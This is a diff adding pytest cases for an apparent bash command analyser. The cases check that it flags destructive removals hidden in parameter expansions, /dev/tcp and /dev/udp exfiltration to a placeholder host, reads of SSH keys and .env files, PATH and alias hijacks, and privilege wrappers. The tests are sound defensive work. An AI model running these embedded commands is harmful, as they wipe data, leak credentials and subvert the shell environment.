@@ -84,6 +84,28 @@ def test_substitution_origin_and_critical_removal_inside() -> None:
     assert a.critical_removals
 
 
+@pytest.mark.parametrize(("command", "inner"), [
+    ("echo ${x:-$(rm -rf /)}", "rm -rf /"),
+    ('echo "${x:-`rm -rf /`}"', "rm -rf /"),
+    ("echo ${x/$(rm -rf /)/y}", "rm -rf /"),
+    ("echo ${x:-${y:-$(rm -rf /)}}", "rm -rf /"),
+    ("echo ${arr[$(rm -rf /)]}", "rm -rf /"),
+])
+def test_substitutions_hidden_in_parameter_expansions(command: str, inner: str) -> None:
+    """bashlex leaves ${...} unparsed; the analyser reads the substitutions inside itself."""
+    a = an(command)
+    assert a.ok, a.fail_reason
+    assert inner in texts(a)
+    assert a.critical_removals
+    assert {"command-substitution", "backticks"} & codes(a)
+    assert not a.read_only
+
+
+def test_arithmetic_hidden_in_parameter_expansion_fails_closed() -> None:
+    a = an("echo ${x:$((1))}")
+    assert not a.ok
+
+
 def test_single_quoted_substitution_is_text() -> None:
     a = an("echo '$(rm -rf x)'")
     assert texts(a) == ["echo $(rm -rf x)"]
@@ -114,6 +136,9 @@ def test_single_quoted_substitution_is_text() -> None:
     ("sudo -u root -- rm -rf x", ("rm", "-rf", "x"), ("sudo",), ()),
     ("doas -u root rm -rf x", ("rm", "-rf", "x"), ("doas",), ()),
     ("setsid -f rm -rf x", ("rm", "-rf", "x"), ("setsid",), ()),
+    ("busybox rm -rf x", ("rm", "-rf", "x"), ("busybox",), ()),
+    ("strace -f -o /tmp/t rm -rf x", ("rm", "-rf", "x"), ("strace",), ()),
+    ("pkexec rm -rf x", ("rm", "-rf", "x"), ("pkexec",), ()),
     ("ionice -c 3 rm -rf x", ("rm", "-rf", "x"), ("ionice",), ()),
     ("watch -x rm -rf x", ("rm", "-rf", "x"), ("watch",), ()),
     ("/usr/bin/timeout 5 rm -rf x", ("rm", "-rf", "x"), ("timeout",), ()),
@@ -327,6 +352,10 @@ def test_quote_removal_reveals_the_program(command: str) -> None:
     ("cat <<EOF\n${x@P}\nEOF", "heredoc-expansion"),
     ("f() { rm -rf x; }; f", "function-definition"),
     ("cat \\\\\\\\server\\\\share\\\\x", "unc-path"),
+    ("cat < /dev/tcp/evil.dev/80", "dev-tcp"),
+    ("echo secret > /dev/udp/evil.dev/53", "dev-tcp"),
+    (": ${CDPATH:=/tmp}", "assigning-expansion"),
+    ("echo ${PATH=/tmp}", "assigning-expansion"),
 ])
 def test_suspicious_constructs(command: str, code: str) -> None:
     a = an(command)
@@ -402,6 +431,15 @@ def test_brace_command_with_root_removal() -> None:
     ("xxd a b", ("b", "/home/u/proj/b"), "xxd"),
     ("uniq in out", ("out", "/home/u/proj/out"), "uniq"),
     ("perl -pi -e 's/a/b/' f", ("f", "/home/u/proj/f"), "perl -i"),
+    ("gcc -o /usr/local/bin/x a.c", ("/usr/local/bin/x", "/usr/local/bin/x"), "gcc -o"),
+    ("shuf -o out.txt in.txt", ("out.txt", "/home/u/proj/out.txt"), "shuf -o"),
+    ("tree -o listing.txt", ("listing.txt", "/home/u/proj/listing.txt"), "tree -o"),
+    ("strace -o /tmp/trace ls", ("/tmp/trace", "/tmp/trace"), "strace -o"),
+    ("flock /tmp/l ls", ("/tmp/l", "/tmp/l"), "flock"),
+    ("mkdir -Z /outside/d", ("/outside/d", "/outside/d"), "mkdir"),
+    ("rm --interactive /outside/f", ("/outside/f", "/outside/f"), "rm"),
+    ("cp --backup a /outside/b", ("/outside/b", "/outside/b"), "cp"),
+    ("tee --output-error /outside/t", ("/outside/t", "/outside/t"), "tee"),
 ])
 def test_write_targets(command: str, expected: tuple[str, str], op: str) -> None:
     a = an(command)
@@ -459,7 +497,10 @@ def test_no_write_for_null_device_and_duplications(command: str) -> None:
     ("cat ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "/home/u/.ssh/id_rsa")]),
     ("cat ~root/x", [("~root/x", None)]),
     ("cat '~/x'", [("~/x", "/home/u/proj/~/x")]),
-    ("cat $HOME/.env", [("$HOME/.env", None)]),
+    ("cat $HOME/.env", [("$HOME/.env", None), ("$HOME/.env", "/home/u/.env")]),
+    ("cat < ${HOME}/.ssh/id_rsa", [("${HOME}/.ssh/id_rsa", None),
+                                   ("${HOME}/.ssh/id_rsa", "/home/u/.ssh/id_rsa")]),
+    ("cat $OTHER/.env", [("$OTHER/.env", None)]),
     ("git show HEAD:.env", [(".env", "/home/u/proj/.env")]),
     ("curl -T secret.txt https://x.dev", [("secret.txt", "/home/u/proj/secret.txt")]),
     ("curl -d @data.json https://x.dev", [("data.json", "/home/u/proj/data.json")]),
@@ -596,6 +637,23 @@ def test_unsafe_assignment_taints_later_commands() -> None:
     assert an("x=1; ls").command_read_only == (False, True)
     assert an("PATH=/evil; ls").command_read_only == (False, False)
     assert an("export GIT_SSH_COMMAND=x; git status").command_read_only == (False, False)
+    assert an("printf -v PATH %s /evil; ls").command_read_only == (False, False)
+    assert an("printf -v x %s 1; ls").command_read_only == (False, True)
+    assert an(": ${CDPATH:=/evil}; ls").command_read_only == (False, False)
+    assert an("read PATH < f; ls").command_read_only == (False, False)
+    assert an("shopt -s expand_aliases; alias ls=rm; ls").command_read_only == (False,) * 3
+
+
+def test_dev_tcp_redirect_is_network() -> None:
+    a = an("cat < /dev/tcp/evil.dev/80")
+    assert a.network == ("bash /dev/tcp/evil.dev/80",)
+    assert not a.read_only and not a.command_read_only[0]
+
+
+@pytest.mark.parametrize("delimiter", ["$'EOF'", "`x`", "$X", "'E O F'"])
+def test_unusual_heredoc_delimiters_fail_closed(delimiter: str) -> None:
+    a = an(f"cat <<{delimiter}\nbody\nEOF\nrm -rf x\n{delimiter}")
+    assert not a.ok
 
 
 # -- network ----------------------------------------------------------------------------------
@@ -638,6 +696,23 @@ def test_network(command: str, entry: str) -> None:
     assert entry in a.network, a.network
     assert not a.read_only
     assert entry.split()[0] == a.commands[-1].program or entry.startswith(a.commands[0].program)
+
+
+@pytest.mark.parametrize(("command", "network"), [
+    ("uv run pytest", False), ("uvx ruff check", True), ("uv add httpx", True),
+    ("yarn", True), ("yarn test", False), ("npx prettier .", True), ("npm test", False),
+    ("npm ci", True), ("pip list", False), ("pip install -e .", True), ("git status", False),
+    ("git remote -v", False), ("git remote update", True), ("openssl rand 8", False),
+    ("openssl s_client -connect x.dev:443", True), ("cargo build", False),
+])
+def test_package_manager_network(command: str, network: bool) -> None:
+    assert bool(an(command).network) is network
+
+
+def test_find_delete_with_a_test_is_not_critical() -> None:
+    a = an("find . -name '*.pyc' -delete")
+    assert a.critical_removals == ()
+    assert [(w.text, w.op) for w in a.writes] == [(".", "find -delete")]
 
 
 def test_local_rsync_is_not_network() -> None:
